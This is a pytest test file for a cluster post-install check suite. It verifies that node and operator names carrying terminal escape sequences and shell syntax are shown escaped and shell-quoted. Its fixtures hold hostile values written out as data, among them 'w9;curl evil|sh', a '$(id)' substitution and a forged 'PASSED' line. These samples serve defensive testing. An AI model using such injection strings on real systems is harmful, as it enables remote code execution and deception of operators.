"""Nothing from outside input reaches the terminal raw (issue 19): a must-gather whose names hold
escape sequences (window title, OSC 8 links, conceal, clear screen) and shell syntax is shown
escaped on every line pytest and the suite print, with colour and without; the JSON keeps the
name as it is, and the fix quotes it."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from lab.cluster_model import seed_cluster, write_must_gather
from lab.model import seed_model
from reports import logredact
from reports.terminal_guard import SAFE_SGR, shown
from tests.suite import run_suite

HOSTILE_NODE = "w9;curl evil|sh;#\x1b]0;pwned\x07\x1b[8mhidden\x1b[2J\x1b]8;;x\x07link"
HOSTILE_OPERATOR = "auth$(id)\x1b[31m\nPASSED"
ESCAPE = re.compile(r"\x1b(\[[0-9;]*[A-Za-z]|\][^\x07]*\x07?|.)")


def raw_escapes(text: str) -> list[str]:
    """Every escape sequence in ``text`` that is not a safe colour code."""
    bad = []
    for match in ESCAPE.finditer(text):
        seq = match.group()
        colour = re.fullmatch(r"\x1b\[([0-9;]*)m", seq)
        if colour and all(int(p or 0) in SAFE_SGR for p in colour.group(1).split(";")):
            continue
        bad.append(seq)
    return bad


@given(st.text())
def test_nothing_but_safe_colour_passes(text: str) -> None:
    for colour in (False, True):
        out = shown(text, colour=colour)
        assert raw_escapes(out) == []
        allowed = "\n\t\r\x1b" if colour else "\n\t"
        assert not any(ord(c) < 32 and c not in allowed for c in out)
        if not colour:
            assert "\x1b" not in out


def test_log_records_are_made_visible() -> None:
    restore = logredact.install()
    try:
        record = logging.getLogger("t").makeRecord(
            "t", logging.INFO, "f", 1, "node %s", ("w1\x1b]0;x\x07",), None
        )
        assert record.getMessage() == "node w1\\x1b]0;x\\x07"
    finally:
        restore()


@pytest.fixture(scope="module")
def hostile_snapshot(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    net = seed_model(0)
    model = seed_cluster(net, "registry.test.example.local:5000")
    node = model.node("w2")
    node["metadata"]["name"] = HOSTILE_NODE
    for condition in node["status"]["conditions"]:
        if condition["type"] == "Ready":
            condition["status"] = "False"
    operator = model.of("clusteroperators")[0]
    operator["metadata"]["name"] = HOSTILE_OPERATOR
    for condition in operator["status"]["conditions"]:
        condition["status"] = {"Available": "False", "Degraded": "True"}.get(
            condition["type"], condition["status"]
        )
    snap = write_must_gather(model, tmp / "mg")
    nodes = [{"name": n.name, "role": n.role, "ip": n.ip} for n in net.nodes]
    inventory = tmp / "site.yaml"
    inventory.write_text(
        yaml.safe_dump(
            {"cluster": {"name": net.cluster, "base_domain": net.base_domain}, "nodes": nodes}
        )
    )
    return snap, inventory


@pytest.mark.parametrize("colour", ["no", "yes"])
def test_a_hostile_must_gather_reaches_the_terminal_escaped(hostile_snapshot, colour) -> None:
    snap, inventory = hostile_snapshot
    run = run_suite(
        "-m",
        "postinstall",
        "-k",
        "nodes.ready or cluster.operators",
        "--snapshot",
        str(snap),
        "-rA",
        "-v",
        f"--color={colour}",
        inventory=inventory,
    )
    out = run.stdout + run.stderr
    assert raw_escapes(out) == [], out[-3000:]
    if colour == "no":
        assert "\x1b" not in out
    assert "\\x1b]0;pwned\\x07" in out  # shown, so the reader sees what the input holds
    assert "\nPASSED" not in out.replace("\nPASSED checks/", "")  # no forged line
    # the JSON keeps the name as it is, the fix quotes it as one word
    record = run.record("nodes.ready", HOSTILE_NODE)
    assert record["outcome"] == "failed"
    assert "oc describe node 'w9;curl evil|sh;#\\x1b]0;pwned" in record["remediation"]
    assert json.loads(json.dumps(record))["subject"] == HOSTILE_NODE
